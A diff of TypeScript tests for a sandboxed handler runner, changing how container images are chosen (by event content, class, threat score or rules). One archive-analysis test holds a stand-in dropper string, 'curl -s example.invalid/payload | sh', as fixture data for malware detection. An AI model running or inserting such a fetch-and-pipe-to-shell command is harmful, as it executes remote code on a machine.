@@ -36,9 +36,9 @@ async function result(...args: string[]): Promise<unknown> {
   return JSON.parse(out);
 }
 
-test('image: a photo is resized', async () => {
+test('image: chosen by the content of its event, a photo is resized', async () => {
   const [handler, event] = [example('photo', 'handler.py'), example('photo', 'event.json')];
-  const found = await result('--image', 'image', '--handler', handler, '--event', event) as { jpeg: string };
+  const found = await result('--handler', handler, '--event', event) as { jpeg: string };
   const { jpeg, ...rest } = found;
   assert.deepEqual(rest, {
     from: { format: 'PNG', width: 96, height: 64 }, to: { format: 'JPEG', width: 32, height: 21 },
@@ -75,26 +75,26 @@ test('image: what is no photo, starts programs, reads files or claims to be huge
   }
 });
 
-test('document: a PDF is checked and read', async () => {
+test('document: chosen by the content of its event, a PDF is checked and read', async () => {
   const [handler, event] = [example('pdf', 'handler.py'), example('pdf', 'event.json')];
-  assert.deepEqual(await result('--image', 'document', '--handler', handler, '--event', event), {
+  assert.deepEqual(await result('--handler', handler, '--event', event), {
     sound: true, pages: 1, text: 'Invoice 2026-11\nTotal: 42.00 EUR',
   });
 });
 
 const totals = [{ item: 'coffee', amount: 1 }, { item: 'tea', amount: 5 }];
 
-test('database: rows are inserted and read by sqlite3, and psql is there', async () => {
+test('database: chosen by the class, rows are inserted and read by sqlite3, and psql is there', async () => {
   const [handler, event] = [example('rows', 'handler.py'), example('rows', 'event.json')];
-  const found = await result('--image', 'database', '--handler', handler, '--event', event) as { psql: string };
+  const found = await result('--class', 'database', '--handler', handler, '--event', event) as { psql: string };
   assert.match(found.psql, /^psql \(PostgreSQL\) \d+/);
   assert.deepEqual(found, { totals, psql: found.psql });
 });
 
-test('analysis: an archive with a member whose hash is listed is malicious, and the rule agrees', async () => {
+test('analysis: chosen by the content, an archive with a member whose hash is listed is malicious', async () => {
   const folder = example('archive');
   const [handler, event] = [join(folder, 'handler.py'), join(folder, 'event.json')];
-  const order = ['--image', 'analysis', '--handler', handler, '--code', folder, '--event', event];
+  const order = ['--handler', handler, '--code', folder, '--event', event];
   const found = await result(...order) as { members: { name: string }[] };
   const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
   const dropper = '#!/bin/sh\n# A harmless stand-in for a dropper.\ncurl -s example.invalid/payload | sh\n';
@@ -112,6 +112,29 @@ test('analysis: an archive with a member whose hash is listed is malicious, and 
       },
     ],
   });
+});
+
+test('shell: chosen by the threat, the strict variant runs an executable; a rule chooses its own', async () => {
+  const folder = await mkdtemp(join(tmpdir(), 'mayfly-choice-'));
+  const rules = join(folder, 'r.yaml');
+  const rule = (image: string): string =>
+    `rulesVersion: 1\nrules:\n- { name: r, when: event.data.n == 1.0, then: { image: ${image} } }\n`;
+  const order = ['--exec', example('shell', 'count.sh'), '--json'];
+  const imageOf = async (...more: string[]): Promise<string> => {
+    const { out, err } = await mayfly(...order, ...more);
+    const { profile } = JSON.parse(out) as { profile: { image: { name: string }; reasons: { because: string }[] } };
+    return `${profile.image.name} ${profile.reasons.some(({ because }) => /level high|rule r/.test(because))} ${err}`;
+  };
+  try {
+    assert.match(await imageOf('--score', '65'), /^shell-strict true/);
+    await writeFile(rules, rule('shell-strict'));
+    assert.match(await imageOf('--rules', rules, '--data', '{"n": 1}'), /^shell-strict true/);
+    await writeFile(rules, rule('nowhere'));
+    const { code, err } = await mayfly('--exec', example('shell', 'count.sh'), '--rules', rules);
+    assert.deepEqual([code, /E_IMAGE_UNKNOWN.*\n.*rule r \(.*r\.yaml:3\).*nowhere/.test(err)], [2, true], err);
+  } finally {
+    await rm(folder, { recursive: true, force: true });
+  }
 });
 
 test('shell: jq transforms an event, and curl is there', async () => {
